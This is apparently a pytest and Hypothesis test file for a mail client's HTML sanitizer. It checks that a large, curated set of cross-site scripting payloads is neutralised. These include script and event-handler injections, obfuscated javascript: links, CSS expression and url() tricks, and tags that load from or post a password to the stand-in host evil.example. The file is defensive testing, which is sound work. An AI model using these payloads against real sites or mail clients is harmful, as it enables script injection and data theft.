"""HTML of strangers, tried with the families of the public cheat lists: nothing runs, nothing loads, nothing is sent."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rapport.conversations.mail import policy, safe_html

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1);//<</script>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img/src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover\x0c=alert(1)>x</p>",
    "<p/onclick/=alert(1)>x</p>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select><option onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "feed:javascript:alert(1)",
    "view-source:x",
    "blob:x",
    "//evil.example/",
    "/admin/delete",
    "?next=x",
    "about:blank",
    "ms-word:ofe|u|http://evil.example/a.docx",
]
STYLES = [
    "background:url(http://evil.example/x.png)",
    "background-image:url('javascript:alert(1)')",
    "width:expression(alert(1))",
    "width:exp/**/ression(alert(1))",
    "width:e\\xpression(alert(1))",
    "-moz-binding:url(http://evil.example/x.xml#x)",
    "behavior:url(x.htc)",
    "@import 'http://evil.example/x.css'",
    "list-style:url(http://evil.example/x)",
    "color:red;position:fixed;top:0;left:0",
    "content:url(x)",
    "cursor:url(http://evil.example/x.cur),auto",
    "filter:progid:DXImageTransform.Microsoft.Alpha(src='x')",
    "color:attr(x)",
    "color:var(--x)",
    "background-color:u\\72l(http://evil.example)",
    "width:1px;opacity:0;z-index:9999",
    "display:flex",
    "margin-top:-900px",
    "margin:0 0 0 -5em",
    "text-indent:-9999px",
    "background-color:\\75\\72\\6c(//evil.example)",
    "transform:translate(-50%)",
    "width:calc(1px + env(x))",
    "clip-path:inset(0)",
    "pointer-events:none",
]
LOADS = [
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<img srcset='//evil.example/x 2x'>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<table background=//evil.example/x.png><td background='http://evil.example/y.png'>x",
    "<body background=//evil.example/x.png>",
    "<input type=image src=//evil.example/x>",
    "<video poster=//evil.example/x src=//evil.example/y></video>",
    "<form action=//evil.example><input name=password></form>",
    "<img dynsrc=//evil.example/x lowsrc=//evil.example/y>",
    "<a ping=//evil.example href=https://ok.example>x</a>",
    "<frameset><frame src=//evil.example></frameset>",
    "<bgsound src=//evil.example/x>",
    "<layer src=//evil.example></layer>",
]
ALLOWED = re.compile(r"https?://|mailto:|tel:")


class Shown(HTMLParser):
    """What a browser would make of it: every tag with its attributes."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))


def clean(html, **how):
    return safe_html(html, cid_url=how.pop("cid_url", lambda _: None), **how)


def assert_harmless(html, is_remote_allowed=False):
    for tag, attributes in Shown(html).tags:
        assert tag not in {
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "meta",
            "base",
            "link",
            "button",
            "video",
            "audio",
        }
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in {"srcset", "background", "action", "formaction", "ping", "poster", "id", "class", "name"}
            if name == "href":
                assert ALLOWED.match(value.strip()), value
            if name == "src":
                assert value.startswith(("/files/", "data:image/")) or is_remote_allowed, value
            if name == "style":
                assert not re.search(
                    r"url|expression|import|position|binding|transform|clip|pointer-events|margin[^;]*-\d|indent[^;]*-|behavior|script|\\|@|var\(|opacity|z-index",
                    value,
                ), value


@pytest.mark.parametrize("html", SCRIPTS)
def test_nothing_runs(html):
    assert_harmless(clean(html).html)
    assert_harmless(clean(f"<p title='{html}'>{html}</p>").html)


@pytest.mark.parametrize("link", LINKS)
def test_links_lead_nowhere_else(link):
    for html in (f'<a href="{link}">x</a>', f"<a href={link}>x</a>", f"<img src='{link}'>", f"<img src={link}>"):
        assert_harmless(clean(html).html)
    assert "javascript" not in clean(f'<a href="{link}">x</a>').html.lower()


@pytest.mark.parametrize("style", STYLES)
def test_styles_load_nothing_and_cover_nothing(style):
    assert_harmless(clean(f'<p style="{style}">x</p>').html)
    assert_harmless(clean(f"<div style='{style};color:red'>x</div>").html)


@pytest.mark.parametrize("html", LOADS)
def test_nothing_is_fetched_or_sent(html):
    assert "evil.example" not in clean(html).html
    assert_harmless(clean(html).html)


@given(st.text(alphabet="<>/=\"' `\x00&#;:script onerror img svg a href style javascript", max_size=200))
def test_no_mixture_of_tags_gets_through(html):
    assert_harmless(clean(html).html)


SPELLED = st.sampled_from(
    ["{}", "&#{n};", "&#x{n:x};", "&#0000{n}", "{}\t", "{}\n", "{}\x00", "{}&#9;", "{}&NewLine;", "\x01{}", "{}\u200b", "\\{n:x} "]
)


@given(
    st.lists(st.tuples(SPELLED, st.booleans()), min_size=11, max_size=11), st.sampled_from(["javascript:", "vbscript:xx", "data:text/h"])
)
def test_no_spelling_of_a_script_address_gets_through(spelling, word):
    link = "".join(how.format(each.upper() if big else each, n=ord(each)) for each, (how, big) in zip(word, spelling, strict=True))
    for html in (
        f'<a href="{link}alert(1)">x</a>',
        f"<img src='{link}alert(1)'>",
        f"<p style='width:{link}1'>x</p>",
        f"<a href={link}>x</a>",
    ):
        assert_harmless(clean(html).html)
        assert (
            "script:"
            not in re.sub(r"\s", "", " ".join(value or "" for _, given in Shown(clean(html).html).tags for value in given.values())).lower()
        )


@given(st.lists(st.sampled_from([*SCRIPTS, *LOADS, *(f'<p style="{style}">' for style in STYLES)]), min_size=1, max_size=4), st.data())
def test_no_attack_cut_short_or_put_into_another_gets_through(attacks, data):
    html = "".join(attack[: data.draw(st.integers(1, len(attack)))] for attack in attacks) + attacks[0]
    found = clean(html).html
    assert_harmless(found)
    assert "evil.example" not in " ".join(value or "" for _, given in Shown(found).tags for value in given.values())


def test_ordinary_mail_looks_as_it_did():
    html = '<p style="color:#333;font-size:12px">Hello <b>you</b></p><table border="1"><tbody><tr><td align="right">3</td></tr></tbody></table>'
    assert clean(html).html == html


def test_links_open_elsewhere_and_tell_nothing():
    found = clean('<a href="https://ok.example/?a=1&amp;b=2" target="_top" rel="opener">x</a>').html
    ((tag, attributes),) = Shown(found).tags
    assert tag == "a"
    assert attributes == {"href": "https://ok.example/?a=1&b=2", "target": "_blank", "rel": "noopener noreferrer nofollow"}


def test_foreign_images_wait_until_asked_for():
    html = '<img src="http://x.example/a.png" alt="A"><img src="//x.example/b.png"><table><tr><td background="https://x.example/c.png">x</td></tr></table>'
    kept_back = clean(html)
    assert (kept_back.blocked_remote, "x.example" in kept_back.html, 'alt="A"' in kept_back.html) == (3, False, True)
    shown = clean(html, allow_remote=True)
    assert (shown.html.count("x.example"), shown.blocked_remote) == (2, 1)


def test_images_that_came_along_are_shown_from_our_address():
    found = clean('<img src="cid:logo@x"><img src="CID:none">', cid_url=lambda name: "/files/7" if name == "logo@x" else None)
    assert 'src="/files/7"' in found.html
    assert "none" not in found.html
    assert found.blocked_remote == 0


def test_small_pictures_written_into_the_mail_are_shown():
    assert 'src="data:image/png;base64,AAAA"' in clean('<img src="data:image/png;base64,AAAA">').html


@pytest.mark.parametrize(
    "html", ["<div>" * 100_000 + "words", "<b>" * 5_000 + "words", "<a href=x>" * 70_000 + "words", "<table><tr><td>" * 30_000 + "words"]
)
def test_what_no_browser_should_open_is_shown_as_words(html):
    found = clean(html)
    assert "words" in found.html
    assert len(found.html) < 2_000


def test_the_frame_can_reach_nothing():
    assert "default-src 'none'" in policy()
    assert "sandbox" in policy()
    assert "https:" not in policy()
    assert "https:" in policy(allow_remote=True)
    assert "script" not in policy(allow_remote=True)
